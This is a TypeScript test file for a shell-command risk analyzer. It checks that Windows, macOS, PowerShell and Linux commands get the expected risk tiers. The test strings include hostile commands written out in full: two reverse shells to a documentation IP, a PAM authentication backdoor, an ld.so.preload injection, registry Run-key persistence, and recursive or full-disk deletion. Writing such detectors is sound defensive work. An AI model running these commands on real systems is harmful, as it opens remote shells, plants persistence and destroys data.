/**
 * Windows' and macOS's own administration programs, PowerShell listings piped into Remove-Item,
 * shells handed to a network peer, jobs given to `at`, and the system files that change every
 * login: judged on the parsed command, as the agent's shell on that platform reads it.
 */
import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { CommandAnalyzer } from '../../src/core/analyzer/types.js';
import { getAnalyzer } from '../support/shellAnalyzer.js';

let analyzer: CommandAnalyzer;
before(async () => {
  analyzer = await getAnalyzer();
});
const tier = (shell: string) => analyzer.analyze({ shell }).risk.tier;

describe('platform administration and shells handed over', () => {
  it("reads Windows' own programs with their backslashes, and judges what they change", () => {
    assert.equal(tier('takeown /f C:\\Windows\\System32 /r /d y'), 'critical');
    assert.equal(tier('takeown /f C:\\app\\data\\x.txt'), 'high');
    assert.equal(tier('icacls C:\\ /grant Everyone:F /t'), 'critical');
    assert.equal(
      tier('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v up /d C:\\x.exe /f'),
      'high',
    );
    assert.equal(tier('reg add HKCU\\Software\\Vendor\\App /v Theme /d dark /f'), 'medium');
    assert.equal(tier('schtasks /create /tn up /tr C:\\x.exe /sc onlogon'), 'high');
    assert.equal(tier('net localgroup administrators me /add'), 'high');
    assert.equal(tier('sc stop wuauserv'), 'high');
    assert.equal(tier('format D: /fs:NTFS /q /y'), 'critical');
    for (const read of [
      'reg query HKLM\\SOFTWARE',
      'sc query wuauserv',
      'net user',
      'schtasks /query',
      'tasklist',
    ])
      assert.equal(tier(read), 'safe', read);
  });

  it('reads a listing piped into Remove-Item as the find that deletes the same items', () => {
    assert.equal(tier('Get-ChildItem C:\\ -Recurse | Remove-Item -Force -Recurse'), 'critical');
    assert.equal(tier('gci -Path $env:USERPROFILE -Recurse | ri -Force'), 'critical');
    assert.equal(tier('Get-ChildItem -Recurse *.log | Remove-Item'), 'medium');
    // Items chosen by a filter stage are unknown: never below high.
    assert.equal(tier('Get-ChildItem | Where-Object { $_.Length -gt 1 } | Remove-Item'), 'high');
  });

  it("judges macOS's disk, keychain, proxy and protection settings", () => {
    assert.equal(tier('diskutil unmountDisk force /dev/disk3'), 'high');
    assert.equal(tier('security delete-keychain login.keychain'), 'critical');
    assert.equal(tier('networksetup -setwebproxy Wi-Fi 203.0.113.9 8080'), 'high');
    assert.equal(tier('defaults write com.apple.screensaver askForPassword -int 0'), 'high');
    assert.equal(tier('defaults write com.apple.dock autohide -bool true'), 'low');
  });

  it('judges a raw connection and a shell reading its input in one command as a reverse shell', () => {
    assert.equal(tier('mkfifo /tmp/f; nc 203.0.113.5 4444 < /tmp/f | /bin/sh > /tmp/f 2>&1'), 'critical');
    assert.equal(
      tier(
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
      ),
      'critical',
    );
    assert.equal(tier('nc -z db 5432 && bash deploy.sh'), 'medium');
  });

  it('judges the commands an at job will run, and keeps the job itself high', () => {
    assert.equal(tier("echo 'rm -rf ~' | at midnight"), 'critical');
    assert.equal(tier("echo 'make build' | at now"), 'high');
  });

  it('judges writes to PAM, the loader preload list and sysrq as critical', () => {
    assert.equal(tier('echo /tmp/evil.so | sudo tee /etc/ld.so.preload'), 'critical');
    assert.equal(tier('echo b > /proc/sysrq-trigger'), 'critical');
    assert.equal(tier("sudo tee /etc/pam.d/common-auth <<< 'auth sufficient pam_permit.so'"), 'critical');
    assert.equal(tier('cat /etc/pam.d/sshd'), 'safe');
    assert.equal(tier('pkill -u root'), 'critical');
  });
});
